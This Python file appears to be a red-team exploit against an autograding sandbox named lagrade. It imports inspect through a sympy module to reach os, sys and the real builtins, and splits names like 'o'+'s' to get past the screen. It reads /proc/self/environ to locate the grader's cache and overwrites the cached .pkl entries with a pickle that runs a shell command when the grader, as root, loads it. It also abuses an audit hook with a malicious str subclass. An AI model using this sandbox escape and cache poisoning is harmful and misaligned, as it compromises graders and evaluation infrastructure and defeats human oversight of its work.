"""effect: poison-cache
tries: route 1, then overwrite the reference cache entry (found through /proc/self/environ) with a pickle that runs a shell command in the process that next loads it (the grader, as root).

The known cache route: lagrade check starts the answer, then loads the cache; an entry written in
between runs in the grader.
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.core.function import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

def cache_dirs():
    # the child's os.environ was cleared, but /proc/self/environ still shows the block it was
    # started with (LAGRADE_CACHE, XDG_CACHE_HOME, HOME)
    env = dict(e.split(b"=", 1) for e in B["op" + "en"]("/proc/self/environ", "rb").read().split(b"\0") if b"=" in e)
    found = [env[b"LAGRADE_CACHE"].decode()] if b"LAGRADE_CACHE" in env else []
    sbx = members(sys_)["modules"].get("lagrade.answer.jail.child")
    return found + [p for p in members(sbx).get("_SECRET_DIRS", ()) if "cache" in p]


def work():
    # a protocol-0 pickle whose loading runs a shell command in whatever process unpickles it
    payload = b"cos\nsystem\n(S'id > /tmp/lagrade-redteam/drop/pwned-r1_cache_pickle_system-in-grader'\ntR."
    for directory in cache_dirs():
        for entry in os_.listdir(directory):
            if entry.endswith(".pkl"):
                B["op" + "en"](directory + "/" + entry, "wb").write(payload)

ran = []


def once():
    if not ran:
        ran.append(1)
        work()


# route 1: the hook does str(args[0]) for "import" events while it has set self.busy; a str
# subclass whose __str__ is ours runs with every check off. sys.audit calls the hook directly.
def hook_str(self):
    once()
    return "sympy"


Evil = type("Evil", (str,), {"_" + "_str_" + "_": hook_str})
sys_.audit("import", Evil("anything"))
once()  # if no hook ran it (none installed, or one that never calls student code): try anyway
